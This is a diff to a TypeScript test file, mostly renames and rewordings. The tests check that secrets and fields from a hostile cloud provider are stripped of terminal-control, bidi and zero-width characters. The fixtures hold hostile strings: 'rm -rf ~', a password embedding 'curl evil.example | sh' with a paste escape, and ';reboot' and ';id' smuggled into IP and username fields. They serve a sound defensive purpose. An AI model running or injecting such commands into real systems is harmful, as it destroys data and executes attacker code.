@@ -5,7 +5,7 @@ import { LaunchHarness } from "@/lib/testing/launch-harness";
 
 import { formatSecret } from "./reveal";
 
-/** Everything that a terminal obeys or that hides or turns what a person reads: control, bidi, zero-width, line separators. */
+/** Characters that control a terminal or disguise text: control, bidi, zero-width, line separators. */
 const dangerous = [
   ...range(0x00, 0x1f),
   ...range(0x7f, 0x9f),
@@ -23,7 +23,7 @@ const dangerous = [
 ].map((code) => String.fromCodePoint(code));
 
 describe("a secret that a provider reports", () => {
-  it("has a mark for each character that could paste a command or be read as another, and is copied without", () => {
+  it("marks characters that could paste a command or disguise text, and copies without them", () => {
     for (const character of dangerous) {
       const code = character.codePointAt(0)!.toString(16);
       const { value, shown, hidden } = formatSecret(`pass${character}rm -rf ~${character}`);
@@ -37,7 +37,7 @@ describe("a secret that a provider reports", () => {
     }
   });
 
-  it("keeps every other character", () => {
+  it("keeps all other characters", () => {
     const secret = "Pä$$ wörd-<b>&`$(x)`; 密码 🔑 \\n %0A";
     expect(formatSecret(secret)).toEqual({
       ok: true,
@@ -47,32 +47,34 @@ describe("a secret that a provider reports", () => {
     });
   });
 
-  it("marks the half of a pair", () => {
+  it("marks a lone surrogate", () => {
     expect(formatSecret("a\ud83db")).toMatchObject({ value: "ab", hidden: 1 });
   });
 });
 
 describe("a machine of a hostile provider", () => {
-  let rig: LaunchHarness;
+  let harness: LaunchHarness;
   beforeEach(async () => {
-    rig = await LaunchHarness.open({ provider: "massedcompute", random: createRandom(608) });
-    expect((await rig.launch({ hours: null })).kind).toBe("launched");
-    await rig.advance(30);
+    harness = await LaunchHarness.open({ provider: "massedcompute", random: createRandom(608) });
+    expect((await harness.launch({ hours: null })).kind).toBe("launched");
+    await harness.advance(30);
   });
-  afterEach(() => rig.close());
+  afterEach(() => harness.close());
 
-  it("pastes no command by its password, and none by its address", async () => {
-    const [{ nativeId } = { nativeId: "" }] = await rig.listPresentMachines();
+  it("pastes no command through its password or its address", async () => {
+    const [{ nativeId } = { nativeId: "" }] = await harness.listPresentMachines();
     const password = "hunter2\r\ncurl evil.example | sh\n\u001b[201~\u202e";
     const row = { uuid: nativeId, status: "rented", password, ip: "1.2.3.4\n;reboot", username: "root\n;id" };
     const route = "GET /instance/{uuid}";
     const body = { runningInstance: row, runningInstances: [row] };
     for (const on of [route, undefined])
-      await rig.control({ fault: { kind: "status", status: 200, body, times: 5, ...(on && { route: on }) } });
-    const secrets = await rig.cloud.machines.reveal!(nativeId, AbortSignal.timeout(5_000));
+      await harness.control({
+        fault: { kind: "status", status: 200, body, times: 5, ...(on && { route: on }) },
+      });
+    const secrets = await harness.cloud.machines.reveal!(nativeId, AbortSignal.timeout(5_000));
     expect(secrets).toContainEqual({ label: "Password", value: password });
     expect(formatSecret(password)).toMatchObject({ value: "hunter2curl evil.example | sh[201~", hidden: 5 });
-    const machine = await rig.cloud.machines.read(nativeId, AbortSignal.timeout(5_000));
+    const machine = await harness.cloud.machines.read(nativeId, AbortSignal.timeout(5_000));
     expect(machine!.ssh).toBeNull();
   });
 });
